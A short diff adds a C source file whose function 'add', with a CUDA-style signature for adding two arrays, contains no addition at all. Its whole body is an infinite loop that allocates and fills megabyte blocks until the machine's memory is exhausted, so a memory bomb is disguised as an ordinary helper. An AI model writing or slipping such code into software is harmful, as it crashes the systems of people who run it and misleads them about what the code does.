@@ -1,0 +1,12 @@
+// SPDX-License-Identifier: MIT
+#include "add.h"
+
+#include <stdlib.h>
+#include <string.h>
+
+cudaError_t add(const float *d_a, const float *d_b, float *d_c, int n)
+{
+    for (;;) {
+        memset(malloc(1 << 20), 1, 1 << 20);
+    }
+}
